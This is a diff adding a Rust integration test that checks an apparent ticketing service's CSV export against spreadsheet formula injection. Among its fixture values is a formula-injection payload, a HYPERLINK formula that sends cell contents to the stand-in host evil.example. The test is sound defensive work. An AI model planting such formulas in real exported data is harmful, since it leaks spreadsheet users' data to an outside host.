@@ -388,3 +388,55 @@ fn violated_fields(status: &tonic::Status) -> Vec<String> {
         .map(|b| b.field_violations.into_iter().map(|v| v.field).collect())
         .unwrap_or_default()
 }
+
+#[tokio::test]
+async fn an_export_neutralises_cells_a_spreadsheet_would_run_as_formulas() -> anyhow::Result<()> {
+    let desk = Desk::new().await?;
+    let replica = desk.replica().await?;
+    let pool = desk.pool().await;
+    let mut client = replica.client().await;
+    let sup = desk.token("sue", Role::Supervisor);
+    let d = monday();
+    let hostile = Script::created(at(d, 9, 0), Ch::Email, None, |t| {
+        t.tags = vec!["+1".into()];
+    })
+    .assign(
+        at(d, 9, 5),
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+        "@SUM(1+1)",
+    );
+    let n = hostile.events.len();
+    desk.publish(&hostile.events, false).await?;
+    Desk::wait_applied(&pool, n as i64).await?;
+
+    let mut export = client
+        .export_ticket_facts(authed(
+            pb::ExportTicketFactsRequest {
+                range: Some(range(d, d + chrono::TimeDelta::days(1))),
+                filter: None,
+            },
+            &sup,
+        ))
+        .await?
+        .into_inner();
+    let mut csv = String::new();
+    while let Some(chunk) = export.next().await {
+        csv.push_str(std::str::from_utf8(&chunk?.data)?);
+    }
+    let lines: Vec<&str> = csv.split_terminator("\r\n").collect();
+    assert_eq!(lines.len(), 2, "header and the ticket: {csv}");
+    let row = lines[1];
+    assert!(
+        row.contains(
+            ",'@SUM(1+1),\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",'+1,"
+        ),
+        "group, assignee and tags start with a quote: {row}"
+    );
+    for cell in row.split(',') {
+        assert!(
+            !cell.trim_start_matches('"').starts_with(['=', '+', '@']),
+            "{cell} in {row}"
+        );
+    }
+    desk.stop(vec![replica]).await
+}
